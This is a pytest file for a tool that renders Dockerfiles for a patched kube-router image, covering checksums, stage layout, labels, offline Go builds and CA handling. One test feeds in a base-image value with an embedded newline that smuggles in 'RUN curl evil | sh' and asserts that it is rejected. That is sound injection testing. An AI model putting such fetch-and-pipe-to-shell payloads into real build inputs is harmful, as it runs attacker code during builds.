"""Rendering images/Dockerfile.j2: defaults, families, and nothing unvalidated inside."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from kube_router_sctp import config, plan, render
from kube_router_sctp.errors import ConfigError


def rendered(**flags: object) -> str:
    settings = config.load(dict(flags))
    built = plan.build(settings)
    return render.render(built, render.configured_bases(built)).dockerfile


def test_default_render_is_the_field_report_image() -> None:
    text = rendered()
    assert "FROM alpine:3.10.3 AS ipvsadm-deps" in text
    assert "FROM alpine:3.10.3 AS runtime-deps" in text
    assert re.search(r"^FROM runtime-deps$", text, re.M)
    assert "ipvsadm-1.30.tar.xz" in text
    assert (
        'echo "95573d70df473c9f63fc4ac496c044c69e3a6de7ccac119922210c0b44cd7a0c  ipvsadm-1.30.tar.xz" > '
        "ipvsadm-1.30.tar.xz.sha256" in text
    )
    assert "sha256sum -c ipvsadm-1.30.tar.xz.sha256" in text


def test_package_stages_first_and_no_compiler_in_the_runtime() -> None:
    text = rendered(**{"build.base-family": "debian"})
    stages = re.split(r"^FROM ", text, flags=re.M)[1:]
    assert [s.split("\n", 1)[0] for s in stages] == [
        "debian:bookworm AS ipvsadm-deps",
        "debian:bookworm-slim AS runtime-deps",
        "debian:bookworm AS go-toolchain",
        "go-toolchain AS kube-router-builder",
        "ipvsadm-deps AS ipvsadm-builder",
        "runtime-deps",
    ]
    runtime = stages[1] + stages[-1]
    for tool in ("gcc", "golang", "make", "build-base", "-dev"):
        assert tool not in runtime
    for package in ("iptables", "ipset", "iproute2", "conntrack"):
        assert package in stages[1]
    # Only the package stages run apt: everything after them builds without a network.
    assert all("apt-get" not in stage for stage in stages[3:])
    assert (
        "COPY --from=kube-router-builder /out/linux_amd64/kube-router /out/linux_amd64/gobgp /usr/local/bin/" in runtime
    )
    assert "COPY --from=ipvsadm-builder /out/ipvsadm /usr/local/sbin/ipvsadm" in runtime


def test_labels_name_the_inputs() -> None:
    text = rendered(**{"build.base-family": "debian", "build.ipvsadm-version": "1.31"})
    assert '"org.opencontainers.image.revision"="4afd6d6d2ab9c94abc5985c30c56ca2605a70a3f"' in text
    assert '"io.github.kube-router-sctp.ipvsadm.version"="1.31"' in text
    assert '"io.github.kube-router-sctp.patch-series"="v0.3 rev 2"' in text
    assert "0003-proxy-create-and-recognise-sctp-ipvs-services.patch" in text
    assert '"org.opencontainers.image.version"="v0.3.2-sctp.2-debian"' in text


def test_no_buildkit_only_syntax() -> None:
    for family in config.FAMILIES:
        text = rendered(**{"build.base-family": family})
        assert "--mount" not in text
        assert "<<" not in text  # heredocs


def test_toolchain_line_copies_the_pinned_go() -> None:
    text = rendered(**{"build.base-family": "debian", "build.kube-router-version": "v2.7.1"})
    assert "COPY go/go1.25.1.linux-amd64.zip /tmp/go.zip" in text
    assert "github.com/cloudnativelabs/kube-router/v2/pkg/version.Version=v2.7.1-sctp." in text
    assert "GOTOOLCHAIN=local" in text


def test_a_value_with_a_newline_never_reaches_the_dockerfile(monkeypatch: pytest.MonkeyPatch) -> None:
    built = plan.build(config.load())
    evil = render.BaseImages("alpine:3.10.3\nRUN curl evil | sh", "alpine:3.10.3", "alpine:3.10.3")
    with pytest.raises(ConfigError, match="control character"):
        render.render(built, evil)


def test_source_date_epoch_is_the_commit_date_unless_set(tmp_path: Path) -> None:
    env = {"KUBE_ROUTER_SCTP_CONFIG": str(tmp_path / "none.toml")}
    built = plan.build(config.load(env=env))
    assert render.source_date_epoch(built) == 1563950150
    built = plan.build(config.load(env={**env, "SOURCE_DATE_EPOCH": "1700000000"}))
    assert render.source_date_epoch(built) == 1700000000
    with pytest.raises(ConfigError, match="SOURCE_DATE_EPOCH"):
        config.load(env={**env, "SOURCE_DATE_EPOCH": "yesterday"})


def test_multi_platform_renders_cross_compiles_and_binaries_from_context() -> None:
    built = plan.build(config.load({"build.base-family": "debian"}))
    bases = render.configured_bases(built)
    binaries = render.render(built, bases, targets=("linux/amd64", "linux/arm64")).dockerfile
    assert "GOOS=linux GOARCH=arm64 go build" in binaries
    assert "-o /out/linux_arm64/kube-router" in binaries and "-o /out/linux_arm64/gobgp" in binaries
    arm = render.render(built, bases, platform="linux/arm64", binaries_in_context=True).dockerfile
    assert "AS go-toolchain" not in arm and "go build" not in arm
    assert "COPY bin/kube-router bin/gobgp /usr/local/bin/" in arm
    assert "AS ipvsadm-builder" in arm


def test_module_lines_build_from_the_context_with_go_off_the_network() -> None:
    built = plan.build(config.load({"build.base-family": "debian", "build.kube-router-version": "v2.2.1"}))
    result = render.render(built, render.configured_bases(built))
    text = result.dockerfile
    assert result.prepare_stages == ("ipvsadm-deps", "runtime-deps", "go-toolchain")
    assert "ENV CGO_ENABLED=0 GOFLAGS=-buildvcs=false GOPATH=/go GOPROXY=off" in text
    assert "COPY gomod/ /go/modproxy/" in text
    assert 'ENV GOPROXY=file:///go/modproxy GOSUMDB=off GOFLAGS="-buildvcs=false -mod=readonly"' in text
    # gobgp from its own module (its go.mod and go.sum), before kube-router's source arrives.
    assert text.index("COPY gobgp/ /src/gobgp/") < text.index("COPY kube-router/ /src/kube-router/")
    assert "-o /out/linux_amd64/gobgp ./cmd/gobgp" in text
    go_stages = text[text.index("AS go-toolchain") : text.index("AS ipvsadm-builder")]
    for network in ("-mod=mod", "go install", "https://", "SSL_CERT_FILE", "certs/"):
        assert network not in go_stages


def test_vendor_lines_build_gobgp_from_its_module_and_kube_router_from_vendor() -> None:
    text = rendered(**{"build.base-family": "debian", "build.kube-router-version": "v1.2.2"})
    assert "COPY gomod/ /go/modproxy/" in text and "./cmd/gobgp" in text
    assert "go build -trimpath -mod=vendor " in text
    assert "go install" not in text


def test_gopath_lines_need_no_modules() -> None:
    text = rendered(**{"build.base-family": "debian"})
    assert "gomod/" not in text and "GO111MODULE=off" in text
    assert "WORKDIR /go/src/github.com/cloudnativelabs/kube-router/vendor/github.com/osrg/gobgp/gobgp" in text


def test_an_https_debian_mirror_gets_a_ca_in_the_package_stages_never_in_the_runtime(tmp_path: object) -> None:
    built = plan.build(
        config.load(
            {
                "build.base-family": "debian",
                "build.kube-router-version": "v2.2.1",
                "mirrors.debian": "https://mirror.example/debian",
            }
        )
    )
    result = render.render(built, render.configured_bases(built))
    assert result.ca_bundle == config.host_ca_bundle()  # none configured: the host's trust store
    text = result.dockerfile
    stages = {s.split("\n", 1)[0]: s for s in re.split(r"^FROM ", text, flags=re.M)[1:]}
    ca = "-o Acquire::https::CAInfo=/etc/kube-router-sctp/ca-bundle.crt"
    assert ca in stages["debian:bookworm AS ipvsadm-deps"] and ca in stages["debian:bookworm AS go-toolchain"]
    # The runtime's packages are installed in a stage of its own whose file system, without
    # the CA, is copied into a fresh image.
    root = stages["debian:bookworm-slim AS runtime-root"]
    assert "-o Acquire::https::CAInfo=/tmp/kube-router-sctp-ca.crt" in root
    assert "rm -f /tmp/kube-router-sctp-ca.crt" in root
    assert "COPY --from=runtime-root / /" in stages["scratch AS runtime-deps"]
    assert "certs/" not in stages["runtime-deps"] and "ca-bundle" not in stages["runtime-deps"]
